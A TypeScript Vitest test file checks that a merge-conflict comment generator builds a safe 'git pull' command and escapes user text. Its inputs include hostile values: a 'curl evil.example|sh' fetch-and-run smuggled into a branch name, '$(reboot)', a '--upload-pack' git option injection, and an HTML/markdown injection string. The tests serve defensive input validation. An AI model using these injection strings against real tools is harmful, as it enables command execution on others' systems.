import { describe, expect, it } from "vitest";
import { conflictComment, resolvedComment } from "../../../scripts/core/merge/conflict-comment.ts";

const place = (main: string, account: string | null = null) => ({
  ...{ main, account },
  repositoryUrl: "https://github.com/team/posts",
});
const commandOf = (main: string) => /^git pull .*$/m.exec(conflictComment({ kind: "fork" }, place(main)))?.[0];

describe("the commands of a comment on a conflict", () => {
  it.each(["main", "release/2026.1", "a-b_c"])("name the branch %s", (main) => {
    expect(commandOf(main)).toBe(`git pull --no-rebase https://github.com/team/posts.git ${main}`);
  });

  it.each([
    ...["a;curl evil.example|sh", "$(reboot)", "`reboot`", "a b", "a&b", "a\nreboot", "main\n", "a'b", 'a"b', "*"],
    ...["--upload-pack=reboot", "-x", ""],
  ])("hold nothing of a name that means something to a shell or to git: %j", (main) => {
    expect(commandOf(main)).toBe("git pull --no-rebase https://github.com/team/posts.git HEAD");
  });
});

describe("a comment on a conflict", () => {
  it.each([
    [null, "<!-- mergecast: queue conflict -->", "The queue has changed"],
    ["florist", "<!-- mergecast: queue conflict of florist -->", "The queue of florist has changed"],
  ])("begins with the mark of its account, before and after: %s", (account, mark, words) => {
    const comment = conflictComment({ kind: "fork" }, place("main", account));
    expect(comment.split("\n")[0]).toBe(mark);
    expect(comment).toContain(words);
    expect(resolvedComment(account).split("\n")[0]).toBe(mark);
  });

  it.each([
    [10, 10, null],
    [11, 10, "- and 1 more"],
    [25, 10, "- and 15 more"],
  ])("on %i other files names %i and counts the rest", (count, shown, rest) => {
    const paths = Array.from({ length: count }, (_, at) => `folder/file${at}.txt`);
    const lines = conflictComment({ kind: "other-files", paths }, place("main")).split("\n");
    expect(lines.filter((line) => line.startsWith("- folder"))).toHaveLength(shown);
    expect(lines.find((line) => line.startsWith("- and")) ?? null).toBe(rest);
  });

  it("shows words of others as they are written, not as markup", () => {
    const hostile = "**@team** <img src=x> [x](https://evil.example)";
    for (const comment of [
      conflictComment({ kind: "unreadable", why: hostile }, place("main")),
      conflictComment({ kind: "other-files", paths: [hostile] }, place("main")),
      conflictComment({ kind: "fork" }, place(hostile)),
    ]) {
      expect(comment).not.toContain("<img");
      expect(comment).not.toContain("**@team**");
      expect(comment).not.toContain("[x](");
    }
  });
});
